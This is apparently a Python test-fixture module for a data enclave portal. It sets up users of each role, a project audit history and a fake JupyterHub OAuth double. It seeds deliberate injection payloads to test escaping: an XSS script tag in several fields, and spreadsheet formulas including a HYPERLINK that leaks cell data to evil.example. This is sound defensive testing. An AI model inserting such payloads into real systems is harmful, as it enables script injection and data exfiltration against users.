"""Builders for portal tests: the people of every role, a project history, a hub double.

The hub double replaces only ``HubOAuth``'s user lookup (``user_for_token``): sessions are
sealed by the portal's real code, and the policy, database and templates are all real.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, timedelta

from fastapi import FastAPI
from fastapi.testclient import TestClient
from jupyterhub.services.auth import HubOAuth
from sqlalchemy import update
from sqlalchemy.orm import Session

from enclave.core import audit, people, policy
from enclave.core.catalogue import Variable
from enclave.core.context import Enclave
from enclave.core.policy import Role
from enclave.portal.app import create_app
from enclave.portal.hubconfig import ACCESS_SCOPE
from enclave.portal.identity import HubIdentity, HubUser
from enclave.portal.sessions import CSRF_COOKIE, SESSION_COOKIE, new_session_id

PREFIX = "/services/portal/"
SECRET = b"portal-test-secret-of-32-bytes!!"
XSS = "<script>alert('xss')</script>"
#: Text the access workflow accepts (no tag: markup is refused there) that still needs escaping.
TRICKY = "<10 & \"guillemets\" 'apostrophes' >"
TRICKY_ESCAPED = "&lt;10 &amp; &#34;guillemets&#34; &#39;apostrophes&#39; &gt;"
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


@dataclass(frozen=True)
class Person:
    """A test person: username, roles, accreditation offset (days from today) and activity."""

    username: str
    roles: tuple[Role, ...]
    trained_days_ago: int | None = None
    active: bool = True
    display_name: str = ""


PEOPLE = (
    Person("alice", (Role.RESEARCHER,), 30, display_name="Alice Martin"),
    Person("rita", (Role.RESEARCHER,), 4 * 365 - 29, display_name="Rita Expire-Bientôt"),
    Person("newbie", (Role.RESEARCHER,), None, display_name="Sans formation"),
    Person("claire", (Role.DEPP_STAFF,), display_name="Claire Durand"),
    Person("david", (Role.DEPP_STAFF,), display_name="David Moreau"),
    Person("emma", (Role.OUTPUT_CHECKER,), display_name="Emma Lefèvre"),
    Person("gaelle", (Role.ETHICS_COMMITTEE,), display_name="Gaëlle Bernard"),
    Person("admin", (Role.PLATFORM_ADMIN,), display_name="Administration"),
    Person("depot", (Role.DATA_PROVIDER,), display_name="Dépôt EdTech"),
    Person("norole", (), display_name="Sans rôle"),
    Person("ghost", (Role.ETHICS_COMMITTEE,), active=False, display_name="Ancien membre"),
    Person("mallory", (Role.RESEARCHER,), 10, display_name=XSS),
)

#: (project, [states in order]) written as the state machine writes them: {"from", "to"}.
HISTORY = (
    ("prj-0001", ["submitted", "in_review", "approved", "active"]),
    ("prj-0002", ["submitted", "in_review", "approved", "active", "suspended"]),
    ("prj-0003", ["submitted", "in_review", "rejected"]),
    ("prj-0004", ["submitted"]),
    ("prj-0005", []),
    ("prj-0006", ["submitted", "in_review", "changes_requested"]),
)


def add_people(session: Session) -> None:
    """Create :data:`PEOPLE` with their roles, trainings and (in)activity."""
    for person in PEOPLE:
        people.create_user(session, policy.SYSTEM, person.username,
                           person.display_name or person.username, roles=person.roles,
                           institution=FORMULA if person.username == "mallory" else "DEPP",
                           email=f"{person.username}@demo.invalid")
        if person.trained_days_ago is not None:
            people.record_accreditation(session, policy.SYSTEM, person.username,
                                        date.today() - timedelta(days=person.trained_days_ago),
                                        reference="Formation test")
        if not person.active:
            session.execute(update(people.User).where(people.User.username == person.username)
                            .values(active=False))


def add_history(session: Session) -> None:
    """Project events as the access workflow records them, plus hostile strings."""
    for project, states in HISTORY:
        audit.record(session, actor="alice", action="project.created", object_type="project",
                     object_id=project, project_id=project, details={"title": "Étude"})
        previous = "draft"
        for state in states:
            actor = "system" if state == "active" else ("alice" if state == "submitted"
                                                          else "claire")
            audit.record(session, actor=actor, action=f"project.{state}", object_type="project",
                         object_id=project, project_id=project,
                         details={"from": previous, "to": state, "reason": "ok"})
            previous = state
    audit.record(session, actor=FORMULA, action="note.recorded", object_type="note",
                 object_id=XSS, project_id="prj-0001", details={"text": XSS, "cmd": "@SUM(1)"})
    session.execute(update(Variable).where(Variable.dataset_id == "eleves",
                                           Variable.name == "sexe")
                    .values(description=XSS))


class FakeHub(HubIdentity):
    """``HubOAuth`` with its user lookup replaced by a table of tokens (the only double)."""

    def __init__(self) -> None:
        super().__init__(HubOAuth(api_token="test-service-token-0123456789abcdef",
                                  oauth_client_id="service-portal", base_url=PREFIX,
                                  hub_prefix="/hub/", api_url="http://127.0.0.1:9/hub/api",
                                  access_scopes={ACCESS_SCOPE}, cache_max_age=0))
        self.users: dict[str, HubUser] = {}

    async def user_for_token(self, token: str) -> HubUser | None:
        """The user the test registered for ``token``."""
        return self.users.get(token)

    def grant(self, username: str, scopes: frozenset[str] = frozenset({ACCESS_SCOPE}),
              kind: str = "user") -> str:
        """Register a token for ``username`` and return it."""
        token = f"token-{username}-{len(self.users)}"
        self.users[token] = HubUser(username, kind, scopes)
        return token


class Portal:
    """A portal app, its hub double and helpers to act as a person."""

    def __init__(self, enclave: Enclave) -> None:
        self.enclave = enclave
        self.hub = FakeHub()
        self.app: FastAPI = create_app(enclave, self.hub, secret=SECRET)

    def client(self, username: str | None = None, **hub_kwargs: object) -> Browser:
        """A browser, logged in as ``username`` when given."""
        browser = Browser(TestClient(self.app, base_url="http://portal.test"), self)
        if username is not None:
            browser.login(username, **hub_kwargs)
        return browser

    def bearer(self, username: str, **hub_kwargs: object) -> dict[str, str]:
        """API headers with a hub token of ``username``."""
        return {"Authorization": f"Bearer {self.hub.grant(username, **hub_kwargs)}"}  # type: ignore[arg-type]

    def head_seq(self) -> int:
        """The audit chain's last sequence number."""
        with self.enclave.db.sessions() as session:
            return audit.head(session)[0]


@dataclass
class Browser:
    """A TestClient with the portal's cookies, as a browser after logging in at the hub."""

    http: TestClient
    portal: Portal
    csrf: str = ""

    def login(self, username: str, **hub_kwargs: object) -> None:
        """Seal a session exactly as the OAuth callback does."""
        token = self.portal.hub.grant(username, **hub_kwargs)  # type: ignore[arg-type]
        sid = new_session_id()
        sealer = self.portal.app.state.portal.sealer
        self.http.cookies.set(SESSION_COOKIE, sealer.seal(
            "session", {"t": token, "sid": sid, "u": username}, 3600))
        self.csrf = sealer.csrf_token(sid)
        self.http.cookies.set(CSRF_COOKIE, self.csrf)

    def get(self, path: str, **kwargs: object):  # type: ignore[no-untyped-def]
        """GET a page of the portal (path relative to the prefix)."""
        kwargs.setdefault("follow_redirects", False)
        return self.http.get(PREFIX + path, **kwargs)  # type: ignore[arg-type]

    def post(self, path: str, data: dict[str, str] | None = None, *, token: bool = True,
             **kwargs: object):  # type: ignore[no-untyped-def]
        """POST a form, with this session's CSRF token unless ``token`` is False."""
        form = dict(data or {})
        if token:
            form.setdefault("csrf_token", self.csrf)
        kwargs.setdefault("follow_redirects", False)
        return self.http.post(PREFIX + path, data=form, **kwargs)  # type: ignore[arg-type]
